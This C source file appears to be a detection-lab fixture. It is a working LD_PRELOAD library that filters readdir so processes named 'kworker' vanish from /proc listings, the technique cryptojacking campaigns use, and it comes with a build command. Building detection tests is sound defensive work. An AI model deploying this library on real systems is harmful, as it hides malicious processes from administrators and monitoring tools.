/* A readdir filter in the manner of libprocesshider, the library cryptojacking campaigns
 * (TeamTNT, WatchDog, Kinsing) write to /etc/ld.so.preload: every program that lists /proc
 * through libc stops seeing processes whose comm is HIDE_NAME. The lab builds it to show the
 * agent still finds them; it is only ever loaded with LD_PRELOAD into the one process under
 * test (or named in a temporary root's etc/ld.so.preload), never into the machine's loader.
 *
 * Build: cc -shared -fPIC -O2 -DHIDE_NAME='"kworker"' -o libhide.so processhider.c -ldl
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#ifndef HIDE_NAME
#define HIDE_NAME "kworker"
#endif

static int is_proc(DIR *dirp) {
    char link[64], path[256];
    int fd = dirfd(dirp);
    if (fd < 0) return 0;
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, path, sizeof path - 1);
    if (n < 0) return 0;
    path[n] = 0;
    return strcmp(path, "/proc") == 0;
}

static int hidden(const char *name) {
    char path[64], comm[64];
    for (const char *p = name; *p; p++)
        if (*p < '0' || *p > '9') return 0;
    snprintf(path, sizeof path, "/proc/%s/comm", name);
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    int hit = 0;
    if (fgets(comm, sizeof comm, f)) {
        comm[strcspn(comm, "\n")] = 0;
        hit = strcmp(comm, HIDE_NAME) == 0;
    }
    fclose(f);
    return hit;
}

#define FILTER(fn, ent_t)                                                                  \
    ent_t *fn(DIR *dirp) {                                                                 \
        static ent_t *(*orig)(DIR *) = NULL;                                               \
        if (!orig) orig = (ent_t * (*)(DIR *)) dlsym(RTLD_NEXT, #fn);                      \
        ent_t *e;                                                                          \
        while ((e = orig(dirp)) != NULL) {                                                 \
            if (!(is_proc(dirp) && hidden(e->d_name))) break;                              \
        }                                                                                  \
        return e;                                                                          \
    }

FILTER(readdir, struct dirent)
FILTER(readdir64, struct dirent64)
